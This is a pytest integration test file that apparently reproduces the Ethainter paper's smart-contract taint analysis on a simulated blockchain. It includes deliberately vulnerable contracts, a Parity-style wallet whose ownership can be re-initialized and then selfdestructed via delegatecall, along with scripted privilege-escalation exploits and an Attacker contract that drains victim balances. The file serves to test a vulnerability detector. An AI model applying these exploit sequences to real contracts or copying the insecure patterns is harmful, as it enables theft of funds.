"""Whole-pipeline integration stories: compiler -> chain -> analysis -> kill.

Each test tells one of the paper's narratives end to end.
"""

import pytest

from repro import api, compile_source
from repro.chain import Blockchain
from repro.kill import EthainterKill
from repro.minisol.abi import decode_word

DEPLOYER, USER, ATTACKER = 0xD00D, 0x900D, 0xBAD


@pytest.fixture
def chain():
    chain = Blockchain()
    for account in (DEPLOYER, USER, ATTACKER):
        chain.fund(account, 10**18)
    return chain


class TestDelegatecallForwarding:
    LIBRARY = """
contract Lib {
    uint256 value;
    function setValue(uint256 v) public { value = v; }
    function whoCalls() public returns (address) { return msg.sender; }
}
"""
    PROXY = """
contract Proxy {
    uint256 value;
    address lib;
    constructor(address l) { lib = l; }
    function set(uint256 v) public { delegatecall(lib, "setValue(uint256)", v); }
    function get() public returns (uint256) { return value; }
}
"""

    def test_delegatecall_writes_proxy_storage(self, chain):
        library = compile_source(self.LIBRARY)
        lib_address = chain.deploy(DEPLOYER, library.init_with_args()).contract_address
        proxy = compile_source(self.PROXY)
        proxy_address = chain.deploy(
            DEPLOYER, proxy.init_with_args(lib_address)
        ).contract_address
        chain.transact(USER, proxy_address, proxy.calldata("set", 777))
        # The write landed in the PROXY's storage, not the library's.
        assert chain.state.get_storage(proxy_address, 0) == 777
        assert chain.state.get_storage(lib_address, 0) == 0
        result = chain.call(USER, proxy_address, proxy.calldata("get"))
        assert decode_word(result.return_data) == 777


class TestParityShape:
    LIBRARY = """
contract WalletLibrary {
    address walletOwner;
    function initWallet(address newOwner) public { walletOwner = newOwner; }
    function kill(address to) public {
        require(msg.sender == walletOwner);
        selfdestruct(to);
    }
}
"""
    PROXY = """
contract Wallet {
    address walletOwner;
    address lib;
    constructor(address l) { lib = l; }
    function init(address o) public { delegatecall(lib, "initWallet(address)", o); }
    function close(address to) public { delegatecall(lib, "kill(address)", to); }
}
"""

    def test_library_statically_flagged(self):
        result = api.analyze(compile_source(self.LIBRARY).runtime)
        kinds = {w.kind for w in result.warnings}
        assert "tainted-owner-variable" in kinds
        assert "accessible-selfdestruct" in kinds
        assert "tainted-selfdestruct" in kinds

    def test_wallet_exploitable_through_proxy(self, chain):
        library = compile_source(self.LIBRARY)
        lib_address = chain.deploy(DEPLOYER, library.init_with_args()).contract_address
        proxy = compile_source(self.PROXY)
        wallet = chain.deploy(
            USER, proxy.init_with_args(lib_address), value=5000
        ).contract_address
        chain.transact(USER, wallet, proxy.calldata("init", USER))
        # Attacker re-initializes and destroys.
        chain.transact(ATTACKER, wallet, proxy.calldata("init", ATTACKER))
        assert chain.state.get_storage(wallet, 0) == ATTACKER
        before = chain.state.get_balance(ATTACKER)
        receipt = chain.transact(ATTACKER, wallet, proxy.calldata("close", ATTACKER))
        assert receipt.success
        assert chain.state.is_destroyed(wallet)
        assert chain.state.get_balance(ATTACKER) - before == 5000


class TestVictimStory:
    """The §2 illustration as one continuous narrative."""

    def test_full_story(self, chain, victim_contract):
        wallet = chain.deploy(
            DEPLOYER, victim_contract.init_with_args(), value=12345
        ).contract_address

        # 1. The naive attack fails.
        receipt = chain.transact(ATTACKER, wallet, victim_contract.calldata("kill"))
        assert not receipt.success

        # 2. Ethainter statically predicts the composite escalation.
        result = api.analyze(victim_contract.runtime)
        assert result.has("accessible-selfdestruct")
        assert result.taint.writable_mappings == {0, 1}

        # 3. Ethainter-Kill executes it.
        killer = EthainterKill(chain)
        outcome = killer.attack(wallet, result)
        assert outcome.destroyed

        # 4. The destruction is verifiable in the trace and the state.
        assert chain.state.is_destroyed(wallet)
        assert chain.state.get_code(wallet) == b""

    def test_manual_exploit_matches_paper_sequence(self, chain, victim_contract):
        """The Attacker contract of §2, as literal transactions."""
        wallet = chain.deploy(
            DEPLOYER, victim_contract.init_with_args(), value=99
        ).contract_address
        calls = [
            victim_contract.calldata("registerSelf"),
            victim_contract.calldata("referAdmin", ATTACKER),
            victim_contract.calldata("changeOwner", ATTACKER),
            victim_contract.calldata("kill"),
        ]
        for data in calls:
            receipt = chain.transact(ATTACKER, wallet, data)
            assert receipt.success
        assert chain.state.is_destroyed(wallet)
        # selfdestruct(owner) paid out to the attacker (now the owner).
        assert chain.state.get_balance(ATTACKER) >= 10**18 + 99 - 1


class TestAttackerContract:
    """The paper's Attacker contract: the exploit as contract code."""

    ATTACKER_SOURCE = """
contract Attacker {
    address victim;
    constructor(address v) { victim = v; }
    function attack() public {
        call(victim, "registerSelf()");
        call(victim, "referAdmin(address)", this);
        call(victim, "changeOwner(address)", this);
        call(victim, "kill()");
    }
}
"""

    def test_contract_based_attack(self, chain, victim_contract):
        victim = chain.deploy(
            DEPLOYER, victim_contract.init_with_args(), value=4242
        ).contract_address
        attacker_contract = compile_source(self.ATTACKER_SOURCE)
        attacker_address = chain.deploy(
            ATTACKER, attacker_contract.init_with_args(victim)
        ).contract_address
        receipt = chain.transact(
            ATTACKER, attacker_address, attacker_contract.calldata("attack")
        )
        assert receipt.success
        assert chain.state.is_destroyed(victim)
        # The victim's balance flowed to the attacker CONTRACT (the owner
        # at kill time is the contract, not the EOA).
        assert chain.state.get_balance(attacker_address) == 4242
